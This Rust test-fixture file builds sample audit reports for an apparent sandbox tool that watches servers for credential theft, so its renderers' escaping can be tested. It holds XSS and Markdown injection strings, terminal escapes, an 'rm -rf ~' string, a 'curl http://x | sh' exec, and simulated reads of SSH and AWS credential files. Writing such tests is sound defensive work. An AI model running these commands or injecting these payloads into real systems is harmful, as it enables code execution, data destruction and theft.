//! Evidence and reports built by hand for the renderers' tests: an ordinary audit, and one
//! whose every server-controlled string is hostile.

use glassbox_model::{
    AuditReport, Bytes, CallResult, CheckResult, DnsQuery, Event, EventKind, Evidence, Finding,
    Flow, FlowProtocol, HttpRequest, Manifest, NetworkMode, NetworkRun, NetworkSettings, Outcome,
    Phase, PhaseTiming, SandboxSettings, SessionSummary, Severity, SockAddr, SurfaceKind,
    SurfaceRead, SurfaceRecord, SurfaceSummary, Target, ToolRecord, ToolSummary, Verdict,
};

/// Script injection.
pub(crate) const SCRIPT: &str = "<script>alert(1)</script>";
/// Breaking out of a double-quoted attribute into an image with a handler.
pub(crate) const IMG: &str = "\"><img src=x onerror=alert(1)>";
/// Breaking out of a single-quoted attribute.
pub(crate) const QUOTE: &str = "' onmouseover='alert(1)";
/// A script URL.
pub(crate) const JS_URL: &str = "javascript:alert(1)";
/// Closing the style sheet.
pub(crate) const STYLE: &str = "</style>";
/// A Markdown link to a script URL.
pub(crate) const MD_LINK: &str = "[x](javascript:alert(1))";
/// A table cell split, a code span, emphasis, a heading after a newline, terminal escapes, and a
/// right-to-left override.
pub(crate) const MD_MISC: &str = "a|b `rm -rf ~` *bold* _u_ \x1b[2J\x07\n# FAKE\r\u{202e}gpj.exe";

/// Every hostile piece.
pub(crate) const HOSTILE: [&str; 7] = [SCRIPT, IMG, QUOTE, JS_URL, STYLE, MD_LINK, MD_MISC];

/// All the pieces in one string, as a name, a path or a summary could carry them.
pub(crate) fn evil() -> String {
    HOSTILE.concat()
}

pub(crate) fn event(id: u64, pid: i32, phase: Phase, kind: EventKind) -> Event {
    Event {
        id,
        t_ns: id * 1_000,
        pid,
        ppid: 1,
        phase,
        kind,
    }
}

pub(crate) fn open(path: &[u8], flags: u64) -> EventKind {
    EventKind::Open {
        syscall: "openat".into(),
        path: Bytes(path.to_vec()),
        flags,
        flags_text: String::new(),
        result: Some(3),
    }
}

pub(crate) fn exec(argv: &[&str]) -> EventKind {
    EventKind::Exec {
        syscall: "execve".into(),
        path: Bytes::from(format!("/usr/bin/{}", argv[0])),
        argv: argv.iter().map(|a| Bytes::from(*a)).collect(),
    }
}

fn connect(ip: &str, port: u16) -> EventKind {
    EventKind::Connect {
        syscall: "connect".into(),
        fd: 5,
        addr: SockAddr::Inet {
            ip: ip.into(),
            port,
        },
        sock_type: None,
    }
}

fn flow(id: u64, mode: NetworkMode) -> Flow {
    Flow {
        id,
        mode,
        t_ns: 1,
        end_ns: 2,
        protocol: FlowProtocol::Tcp,
        src: None,
        dst: SockAddr::Inet {
            ip: "198.18.0.7".into(),
            port: 443,
        },
        dns_name: Some(Bytes::from("api.example.com")),
        dns: None,
        sni: Some(Bytes::from("api.example.com")),
        http: None,
        packets_out: 3,
        bytes_out: 517,
        bytes_in: 0,
        sample: Bytes(vec![]),
        sample_truncated: false,
        events: vec![9],
        note: None,
        ..Default::default()
    }
}

fn dns_flow(id: u64, name: &str, qtype: &str) -> Flow {
    Flow {
        protocol: FlowProtocol::Dns,
        dst: SockAddr::Inet {
            ip: "10.0.2.3".into(),
            port: 53,
        },
        dns_name: None,
        sni: None,
        dns: Some(DnsQuery {
            name: Bytes::from(name),
            qtype: qtype.into(),
            answers: vec!["198.18.0.7".into()],
        }),
        ..flow(id, NetworkMode::Capture)
    }
}

fn call(t: &str) -> Phase {
    Phase::Call(t.into())
}

pub(crate) fn finding(summary: &str, evidence: Vec<u64>, phase: Phase) -> Finding {
    Finding {
        check: "credential-probe".into(),
        version: 1,
        summary: summary.into(),
        evidence,
        phase: Some(phase),
        accusation: false,
        flows: Vec::new(),
    }
}

pub(crate) fn check(id: &str, outcome: Outcome, findings: Vec<Finding>) -> CheckResult {
    CheckResult {
        id: id.into(),
        version: 1,
        claim: format!("the claim of {id}"),
        severity: Severity::High,
        outcome,
        reason: None,
        findings,
        notes: vec![],
    }
}

fn tool(name: &str, description: &str, result: CallResult) -> (ToolRecord, ToolSummary) {
    let called = result != CallResult::NotCalled;
    (
        ToolRecord {
            name: name.into(),
            description: Some(description.into()),
            input_schema: serde_json::json!({"type": "object"}),
            called,
            arguments_note: None,
            arguments: None,
            result,
            calls: Vec::new(),
            relisted_unchanged: Some(true),
        },
        ToolSummary {
            name: name.into(),
            called,
            result,
            calls: Vec::new(),
        },
    )
}

/// A resource, template or prompt named `name`, with `reads`.
fn item(kind: SurfaceKind, name: &str, reads: Vec<SurfaceRead>) -> SurfaceRecord {
    SurfaceRecord {
        kind,
        name: name.into(),
        completions: 0,
        reads,
    }
}

/// A read (or get) of `phase` with `label`'s values, and its outcome and error.
fn read(phase: Phase, label: &str, result: CallResult, error: Option<&str>) -> SurfaceRead {
    SurfaceRead {
        phase,
        label: label.into(),
        arguments: if label.is_empty() {
            serde_json::Value::Null
        } else {
            serde_json::json!({ "path": label })
        },
        result,
        error: error.map(String::from),
    }
}

/// The session's surface beyond tools: one resource read, a template read twice, a prompt not
/// got, the server's sampling and elicitation, a canary given, a cut.
fn surface(s: &mut SessionSummary) {
    s.resources = vec!["notes".into()];
    s.templates = vec!["file:///{path}".into()];
    s.prompts = vec!["summarize".into()];
    let mut template = item(
        SurfaceKind::Template,
        "file:///{path}",
        vec![
            read(
                Phase::read("file:///README.md", 1),
                "all properties",
                CallResult::Ok,
                None,
            ),
            read(
                Phase::read("file:///home/user/.aws/credentials", 1),
                "path: a planted credential",
                CallResult::RpcError,
                Some("no such file"),
            ),
        ],
    );
    template.completions = 1;
    s.surface = vec![
        item(
            SurfaceKind::Resource,
            "mem://notes",
            vec![read(
                Phase::read("mem://notes", 1),
                "",
                CallResult::Ok,
                None,
            )],
        ),
        template,
        item(SurfaceKind::Prompt, "summarize", vec![]),
    ];
    s.surface_cut = vec!["the calls' budget ran out: 1 prompt got fewer gets than its plan".into()];
    s.server_requests = [
        ("elicitation/create".to_string(), 1),
        ("sampling/createMessage".to_string(), 2),
    ]
    .into();
    s.elicited = vec![glassbox_model::ElicitedSecret {
        phase: Phase::read("mem://notes", 1),
        field: "token".into(),
        value: "ghp_canary".into(),
    }];
}

fn timing(phase: Phase, start_ms: u64, end_ms: u64) -> PhaseTiming {
    PhaseTiming {
        phase,
        start_ns: start_ms * 1_000_000,
        end_ns: end_ms * 1_000_000 + 250_000,
    }
}

fn evidence(events: Vec<(Phase, EventKind)>, tools: Vec<ToolRecord>, flows: Vec<Flow>) -> Evidence {
    Evidence {
        manifest: Manifest {
            run_id: "run-42".into(),
            target: Target {
                command: vec!["node".into(), "server.js".into()],
                ..Target::default()
            },
            sandbox: SandboxSettings {
                home: "/home/user".into(),
                ..SandboxSettings::default()
            },
            session: SessionSummary {
                completed: true,
                tools,
                ..SessionSummary::default()
            },
            timings: vec![
                timing(Phase::Startup, 0, 180),
                timing(Phase::Initialize, 180, 200),
                timing(Phase::List, 200, 205),
                timing(call("get_weather"), 205, 1_340),
                timing(Phase::Shutdown, 1_340, 1_400),
            ],
            network: NetworkSettings {
                runs: vec![NetworkRun {
                    mode: NetworkMode::Capture,
                    isolation_verified: true,
                    ..NetworkRun::default()
                }],
                ..NetworkSettings::default()
            },
            ..Manifest::default()
        },
        events: events
            .into_iter()
            .enumerate()
            .map(|(i, (p, k))| event(i as u64 + 1, 2 + i as i32, p, k))
            .collect(),
        transcript: vec![],
        flows,
    }
}

fn report(verdict: Verdict, checks: Vec<CheckResult>, tools: Vec<ToolSummary>) -> AuditReport {
    AuditReport {
        glassbox_version: "0.1.0".into(),
        run_id: "run-42".into(),
        evidence_dir: "/var/lib/glassbox/run-42".into(),
        verdict,
        inconclusive_reason: None,
        checks,
        tools,
        call_outcomes: Default::default(),
        surface: Default::default(),
    }
}

/// An ordinary flagged audit: a planted key read, a shell spawned, one TLS flow.
pub(crate) fn normal() -> (Evidence, AuditReport) {
    let (records, summaries): (Vec<_>, Vec<_>) = [
        tool("get_weather", "Get the weather for a city.", CallResult::Ok),
        tool("run", "Runs a command.", CallResult::NotCalled),
    ]
    .into_iter()
    .unzip();
    let mut ev = evidence(
        vec![
            (Phase::Startup, exec(&["node", "server.js"])),
            (Phase::Startup, open(b"/home/user/project/package.json", 0)),
            (call("get_weather"), open(b"/home/user/.ssh/id_rsa", 0)),
            (call("get_weather"), open(b"/home/user/x/../.ssh/id_rsa", 0)),
            (
                Phase::Shutdown,
                EventKind::Stat {
                    syscall: "statx".into(),
                    path: "/home/user/.ssh/id_rsa".into(),
                },
            ),
            (Phase::Startup, open(b"/home/user/.bashrc", 0o1101)),
            (Phase::Startup, open(b"/usr/lib/node/x.js", 0)),
            (call("run"), exec(&["sh", "-c", "curl http://x | sh"])),
            (call("get_weather"), connect("198.18.0.7", 443)),
        ],
        records,
        vec![flow(1, NetworkMode::Capture), flow(2, NetworkMode::Capture)],
    );
    let mut exfil = finding(
        "sent ~/.ssh/id_rsa to api.example.com",
        vec![9],
        call("get_weather"),
    );
    exfil.accusation = true;
    exfil.flows = vec![1, 2];
    surface(&mut ev.manifest.session);
    let mut rep = report(
        Verdict::Flagged,
        vec![
            check(
                "credential-probe",
                Outcome::Flag,
                vec![finding(
                    "read + stat of ~/.ssh/id_rsa (planted secret) during call:get_weather",
                    vec![3, 4, 5],
                    call("get_weather"),
                )],
            ),
            check("canary-exfiltration", Outcome::Flag, vec![exfil]),
            check("process-spawn", Outcome::Pass, vec![]),
            CheckResult {
                reason: Some("no positive control passed in this build".into()),
                ..check("image-swap", Outcome::Unverified, vec![])
            },
            CheckResult {
                reason: Some("fanotify is not available".into()),
                ..check("honeytoken-ground-truth", Outcome::NotObserved, vec![])
            },
        ],
        summaries,
    );
    rep.surface = SurfaceSummary::of(&ev.manifest.session);
    (ev, rep)
}

/// An audit where every string the server controls is [`evil`]: tool names and descriptions,
/// phases, paths, argv, a Unix socket path, SNI, HTTP Host, DNS names and types, session
/// failure, finding summaries, check reasons.
pub(crate) fn hostile() -> (Evidence, AuditReport) {
    let evil = evil();
    let mut tools = vec![tool(&evil, &evil, CallResult::Ok)];
    // Two calls of the first tool: its plan's labels and the error texts are the server's
    // (property names, enum values, tool error text).
    tools[0].1.calls = (1..=2)
        .map(|k| glassbox_model::CallRecord {
            k,
            label: format!("{evil}=true"),
            arguments: serde_json::json!({ evil.clone(): true }),
            result: if k == 1 {
                CallResult::Ok
            } else {
                CallResult::RejectedArguments
            },
            retry_of: None,
            error: (k == 2).then(|| evil.clone()),
        })
        .collect();
    for (i, piece) in HOSTILE.iter().enumerate() {
        tools.push(tool(piece, piece, CallResult::ToolError));
        tools.push(tool(&format!("t{i}"), piece, CallResult::NotCalled));
    }
    let (records, summaries): (Vec<_>, Vec<_>) = tools.into_iter().unzip();
    let mut events = vec![
        (
            call(&evil),
            open(format!("/home/user/{evil}").as_bytes(), 0),
        ),
        (call(&evil), open(b"/home/user/\xff\x9b31m", 0)),
        (Phase::Startup, exec(&["sh", "-c", &evil])),
        (
            Phase::Startup,
            EventKind::Connect {
                syscall: "connect".into(),
                fd: 3,
                addr: SockAddr::Unix {
                    path: Bytes::from(evil.as_str()),
                    is_abstract: false,
                },
                sock_type: None,
            },
        ),
    ];
    for piece in HOSTILE {
        events.push((
            call(piece),
            open(format!("/home/user/{piece}").as_bytes(), 0),
        ));
        events.push((call(piece), exec(&["python3", piece])));
    }
    let mut flows = vec![
        Flow {
            sni: Some(Bytes::from(evil.as_str())),
            dns_name: Some(Bytes::from(evil.as_str())),
            http: Some(HttpRequest {
                method: "GET".into(),
                target: Bytes::from(evil.as_str()),
                host: Some(Bytes::from(evil.as_str())),
            }),
            ..flow(1, NetworkMode::Capture)
        },
        dns_flow(2, &evil, &evil),
    ];
    for (i, piece) in HOSTILE.iter().enumerate() {
        flows.push(Flow {
            sni: Some(Bytes::from(*piece)),
            ..flow(10 + i as u64, NetworkMode::Capture)
        });
        flows.push(dns_flow(20 + i as u64, piece, "A"));
    }
    let mut ev = evidence(events, records, flows);
    ev.manifest.target.command = vec!["node".into(), evil.clone()];
    ev.manifest.session.completed = false;
    ev.manifest.session.failure = Some(evil.clone());
    ev.manifest.timings.push(timing(call(&evil), 1_400, 1_500));
    // The surface: URIs, templates, prompt names, labels, errors, the server's methods and
    // the cut's words are the server's.
    let s = &mut ev.manifest.session;
    s.resources = vec![evil.clone()];
    s.templates = vec![evil.clone()];
    s.prompts = HOSTILE.iter().map(|p| p.to_string()).collect();
    s.surface = vec![
        item(
            SurfaceKind::Resource,
            &evil,
            vec![read(Phase::read(&evil, 1), "", CallResult::Ok, None)],
        ),
        item(
            SurfaceKind::Template,
            &evil,
            (1..=2)
                .map(|k| {
                    read(
                        Phase::read(&evil, k),
                        &evil,
                        CallResult::ToolError,
                        Some(&evil),
                    )
                })
                .collect(),
        ),
    ];
    for piece in HOSTILE {
        s.surface.push(item(
            SurfaceKind::Prompt,
            piece,
            vec![read(
                Phase::prompt(piece, 1),
                piece,
                CallResult::Ok,
                Some(piece),
            )],
        ));
    }
    s.surface_cut = vec![evil.clone()];
    s.server_requests = [(evil.clone(), 3), ("elicitation/create".to_string(), 1)].into();
    let mut accusation = finding(&evil, vec![1, 3], call(&evil));
    accusation.accusation = true;
    accusation.flows = vec![1, 2];
    let mut findings = vec![accusation];
    for piece in HOSTILE {
        findings.push(finding(piece, vec![2], call(piece)));
    }
    let mut rep = report(
        Verdict::Withheld,
        vec![
            CheckResult {
                notes: vec![finding(&evil, vec![3], Phase::Startup)],
                ..check("canary-exfiltration", Outcome::Flag, findings)
            },
            CheckResult {
                reason: Some(evil.clone()),
                claim: evil.clone(),
                ..check(&evil, Outcome::Inconclusive, vec![])
            },
        ],
        summaries,
    );
    rep.surface = SurfaceSummary::of(&ev.manifest.session);
    rep.inconclusive_reason = Some(evil.clone());
    rep.run_id = evil.clone();
    rep.evidence_dir = format!("/var/lib/glassbox/{evil}");
    (ev, rep)
}

/// Every list longer than its cap.
pub(crate) fn long() -> (Evidence, AuditReport) {
    use crate::tables::*;
    let mut events = Vec::new();
    for i in 0..FILES_CAP + 7 {
        events.push((
            Phase::Startup,
            open(format!("/home/user/f{i}").as_bytes(), 0),
        ));
    }
    for i in 0..PROCESSES_CAP + 3 {
        events.push((Phase::Startup, exec(&["git", &format!("{i}")])));
    }
    for i in 0..CONNECTIONS_CAP + 1 {
        events.push((Phase::Startup, connect(&format!("10.0.0.{i}"), 80)));
    }
    let flows = (0..FLOWS_CAP + 4)
        .map(|i| dns_flow(i as u64, &format!("h{i}.example"), "A"))
        .collect();
    let (records, summaries): (Vec<_>, Vec<_>) = (0..TOOLS_CAP + 2)
        .map(|i| tool(&format!("t{i}"), "d", CallResult::Ok))
        .unzip();
    let mut ev = evidence(events, records, flows);
    ev.manifest.timings = (0..TIMINGS_CAP as u64 + 5)
        .map(|i| timing(call(&format!("t{i}")), i, i + 1))
        .collect();
    ev.manifest.session.resources = (0..TOOLS_CAP + 3).map(|i| format!("r{i}")).collect();
    ev.manifest.session.surface = (0..TOOLS_CAP + 3)
        .map(|i| {
            let uri = format!("mem://r{i}");
            let reads = vec![read(Phase::read(&uri, 1), "", CallResult::Ok, None)];
            item(SurfaceKind::Resource, &uri, reads)
        })
        .collect();
    ev.manifest.session.surface_cut = (0..CUT_CAP + 2).map(|i| format!("cut {i}")).collect();
    let findings = (0..FINDINGS_CAP + 4)
        .map(|i| finding(&format!("f{i}"), (1..=20).collect(), Phase::Startup))
        .collect();
    let rep = report(
        Verdict::Flagged,
        vec![check("credential-probe", Outcome::Flag, findings)],
        summaries,
    );
    let rep = AuditReport {
        surface: SurfaceSummary::of(&ev.manifest.session),
        ..rep
    };
    (ev, rep)
}
